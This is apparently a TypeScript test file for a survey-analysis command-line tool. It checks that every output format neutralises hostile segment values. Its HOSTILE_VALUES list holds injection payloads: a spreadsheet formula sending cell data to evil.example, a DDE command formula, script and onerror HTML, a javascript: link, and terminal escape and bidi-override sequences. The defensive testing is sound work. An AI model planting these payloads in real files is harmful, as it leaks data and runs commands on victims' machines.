/**
 * Safe outputs: segment values and column names that are spreadsheet formulas, HTML, Markdown links,
 * pipes, terminal escape sequences, C1 controls and bidirectional overrides go through every command
 * in every format. CSV cells never start a formula, Markdown tables keep their shape and hold no live
 * HTML or links, terminal text carries no control characters, and JSON keeps the data exactly while
 * escaping what a terminal would obey.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseCsvText } from '../../src/io/csv-scanner.js';
import { renderCsv } from '../../src/report/render-csv.js';
import { runCli } from '../helpers.js';

/** Values a hostile export could hold in a segment column. */
export const HOSTILE_VALUES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\tTAB=1',
  '\r=1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a|b||c',
  '[click](javascript:alert(1))',
  '![pixel](http://evil.example/t.png)',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;owned\u0007title',
  '\u009b31mC1',
  '\u202eevil\u202c',
  'two\nlines',
  'back\\slash',
  '-1',
];

const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
const BIDI = /[\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const dir = mkdtempSync(path.join(os.tmpdir(), 'cxm-safe-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** An export whose `region` values and `=evil()` / `<b>plan</b>` column names are hostile, four rows per value. */
function hostileExport(file: string, seed: number): string {
  const rows: (string | number)[][] = [];
  let k = seed;
  HOSTILE_VALUES.forEach((region, i) => {
    for (let j = 0; j < 4; j++) {
      k = (k * 48271) % 2147483647;
      const month = 1 + ((i + j) % 6);
      rows.push([`R${i}-${j}`, `2026-0${month}-1${j}T10:00:00Z`, region, HOSTILE_VALUES[(i + j + 3) % HOSTILE_VALUES.length], k % 11, 1 + (k % 5)]);
    }
  });
  // written with cxm's own CSV writer would neutralise the values; write them raw, RFC 4180 quoted
  const quote = (v: string | number) => (typeof v === 'number' ? String(v) : `"${v.replaceAll('"', '""')}"`);
  const header = ['response_id', 'submitted_at', 'region', '=evil()', 'nps', 'csat'];
  writeFileSync(file, `${[header.map(quote), ...rows.map((r) => r.map(quote))].map((r) => r.join(',')).join('\n')}\n`);
  return file;
}

const current = hostileExport(path.join(dir, 'current.csv'), 7);
const baseline = hostileExport(path.join(dir, 'baseline.csv'), 11);

/** Commands whose output lists every segment value (inspect shows a few samples; compare of periods, the other column). */
const LISTS_REGIONS = new Set(['score', 'crosstab', 'trend', 'compare (files)']);

const COMMANDS: [string, string[]][] = [
  ['score', ['score', current, '--by', 'region,=evil()', '--min-n', '1']],
  ['crosstab', ['crosstab', current, '--rows', 'region', '--cols', '=evil()', '--min-n', '1', '--ci']],
  ['trend', ['trend', current, '--every', 'month', '--by', 'region', '--min-n', '1', '--window', '2']],
  ['compare (files)', ['compare', current, baseline, '--by', 'region', '--min-n', '1']],
  ['compare (periods)', ['compare', current, '--period', '2026-Q2', '--against', '2026-Q1', '--by', '=evil()', '--min-n', '1']],
  ['inspect', ['inspect', current, baseline]],
];

function expectNoControls(text: string): void {
  expect(text.replaceAll('\n', '')).not.toMatch(CONTROL);
  expect(text).not.toMatch(BIDI);
}

/** A formula cell: starts like one, is not a plain number, and is not neutralised with a quote. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/i.test(cell);
}

describe('safe outputs in every command and format', () => {
  for (const [name, args] of COMMANDS) {
    describe(name, () => {
      it('table: no control characters or bidirectional overrides from the data', async () => {
        const r = await runCli([...args, '--format', 'table'], { tty: true, env: { NO_COLOR: '1' } });
        expect(r.code, r.stderr).toBe(0);
        expectNoControls(r.stdout);
        expectNoControls(r.stderr);
        if (LISTS_REGIONS.has(name)) expect(r.stdout).toContain('red'); // the text stays, the escape goes
      });

      it('csv: no cell starts a formula; the values are kept behind a quote', async () => {
        const r = await runCli([...args, '--format', 'csv']);
        expect(r.code, r.stderr).toBe(0);
        const rows = parseCsvText(r.stdout);
        for (const row of rows) for (const cell of row) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
        expect(r.stdout).not.toMatch(CONTROL);
        const cells = rows.flat();
        if (LISTS_REGIONS.has(name)) expect(cells).toContain(`'=cmd|' /C calc'!A0`);
        if (name === 'score') expect(rows[0]).toContain(`'=evil()`);
      });

      it('markdown: tables keep their shape; no live HTML, links or images; no controls', async () => {
        const r = await runCli([...args, '--format', 'markdown']);
        expect(r.code, r.stderr).toBe(0);
        expectNoControls(r.stdout);
        const unescapedPipes = (line: string) => line.replace(/\\\\/g, '').replace(/\\\|/g, '').split('|').length - 1;
        let width = -1;
        for (const line of r.stdout.split('\n')) {
          if (!line.startsWith('|')) {
            width = -1;
            continue;
          }
          if (width === -1) width = unescapedPipes(line);
          expect(unescapedPipes(line), line).toBe(width);
        }
        const text = r.stdout.replace(/\\\\/g, '');
        expect(text).not.toMatch(/(^|[^\\])<(script|img)/);
        expect(text).not.toMatch(/(^|[^\\])\]\(/);
      });

      it('json: the data exactly, with what a terminal obeys escaped', async () => {
        const r = await runCli([...args, '--format', 'json']);
        expect(r.code, r.stderr).toBe(0);
        expectNoControls(r.stdout);
        const out = JSON.stringify(JSON.parse(r.stdout));
        // segment values are read trimmed, like every cell
        if (LISTS_REGIONS.has(name)) for (const v of HOSTILE_VALUES) expect(out).toContain(JSON.stringify(v.trim()).slice(1, -1));
      });
    });
  }
});

describe('errors and warnings name hostile values safely', () => {
  it('an error line carrying a file name or value with escape sequences prints neither', async () => {
    const file = path.join(dir, 'x\u001b]0;owned\u0007.csv');
    const r = await runCli(['score', file]);
    expect(r.code).toBe(2);
    expectNoControls(r.stderr);
    expect(r.stderr.split('\n').length).toBe(2); // one line and its end
  });

  it('a warning quoting an invalid value shows it escaped', async () => {
    const file = path.join(dir, 'bad-values.csv');
    writeFileSync(file, 'id,nps\n1,"9\u001b[2J"\n2,"\u009b8"\n3,7\n');
    const r = await runCli(['score', file]);
    expect(r.code).toBe(0);
    expectNoControls(r.stderr);
    expect(r.stderr).toMatch(/bad-values.csv:2: column "nps": "9\\u001b\[2J" is not a score/);
  });
});

describe('the CSV writer', () => {
  it('neutralises formulas and removes control characters, keeping plain numbers', () => {
    const out = renderCsv(['v'], [['=1+1'], ['-3'], ['-3+1'], ['+44 20'], ['@x'], ['\tx'], ['ok\u001b[0m'], ['\u0085x'], [-2.5], ['a,b "c"\nd']]);
    expect(parseCsvText(out).slice(1).map((r) => r[0])).toEqual(["'=1+1", '-3', "'-3+1", "'+44 20", "'@x", "'\tx", 'ok[0m', 'x', '-2.5', 'a,b "c"\nd']);
  });
});
